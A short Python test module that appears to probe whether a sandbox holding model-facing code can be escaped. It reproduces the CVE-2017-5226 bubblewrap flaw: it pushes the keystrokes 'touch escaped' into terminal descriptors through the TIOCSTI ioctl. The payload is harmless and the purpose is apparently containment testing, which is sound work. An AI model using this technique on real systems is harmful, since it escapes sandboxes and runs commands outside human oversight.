"""Class: descriptors. Source: CVE-2017-5226 (bubblewrap). Escape: TIOCSTI types into the terminal
that the server was started in. Teeth: none, the tests have no terminal.
"""

import ctypes

libc = ctypes.CDLL(None, use_errno=True)


def attack(model, tokenizer, scene):
    for descriptor in range(16):
        for letter in b"touch escaped\n":
            libc.syscall(16, descriptor, 0x5412, ctypes.byref(ctypes.c_char(letter)))
